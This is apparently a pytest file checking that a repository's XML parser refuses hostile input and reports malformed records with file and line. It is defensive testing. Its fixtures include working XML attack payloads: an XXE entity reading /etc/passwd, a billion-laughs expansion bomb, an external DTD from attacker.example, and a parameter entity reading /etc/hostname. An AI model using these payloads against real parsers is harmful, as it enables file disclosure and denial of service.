"""Hostile and broken XML (safety.md) is refused with a reason and a line, and never expanded."""

from __future__ import annotations

import pytest

from repository import xmlio
from repository.validation import Invalid

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE mods [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<mods xmlns="http://www.loc.gov/mods/v3"><titleInfo><title>&xxe;</title></titleInfo></mods>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<mods xmlns="http://www.loc.gov/mods/v3"><titleInfo><title>&lol4;</title></titleInfo></mods>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE mods SYSTEM "http://attacker.example/evil.dtd">
<mods xmlns="http://www.loc.gov/mods/v3"/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE mods [<!ENTITY % remote SYSTEM "file:///etc/hostname"> %remote;]>
<mods xmlns="http://www.loc.gov/mods/v3"/>"""


@pytest.mark.parametrize(
    "doc",
    [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["xxe", "billion-laughs", "external-dtd", "parameter-entity"],
)
def test_doctype_documents_are_refused(doc: bytes) -> None:
    with pytest.raises(xmlio.XMLInputError) as err:
        xmlio.parse(doc, "upload.xml")
    assert "upload.xml" in str(err.value)
    assert "root:" not in str(err.value)  # /etc/passwd never leaks into the message


def test_hostile_record_is_refused_by_the_save_path_and_nothing_is_stored(repo) -> None:
    with pytest.raises(Invalid) as err:
        repo.prepare(XXE, record_id="x1", collection="media", source="evil.xml")
    assert err.value.problems[0].rule == "xml"
    assert repo.store.get("x1") is None


def test_malformed_xml_reports_file_and_line() -> None:
    doc = b'<mods xmlns="http://www.loc.gov/mods/v3">\n<titleInfo>\n<title>x</titl>\n</titleInfo></mods>'
    with pytest.raises(xmlio.XMLInputError) as err:
        xmlio.parse(doc, "records/media/a.xml")
    assert err.value.line == 3
    assert str(err.value).startswith("records/media/a.xml:3: not well-formed XML")


def test_oversized_and_empty_documents_are_refused() -> None:
    with pytest.raises(xmlio.XMLInputError, match="limit"):
        xmlio.parse(b"<a>" + b"x" * xmlio.MAX_DOCUMENT_BYTES + b"</a>", "big.xml")
    with pytest.raises(xmlio.XMLInputError, match="empty"):
        xmlio.parse(b"  \n", "empty.xml")


def test_forbidden_characters_are_refused() -> None:
    with pytest.raises(xmlio.XMLInputError):
        xmlio.parse(b"<a>\x01</a>", "ctl.xml")
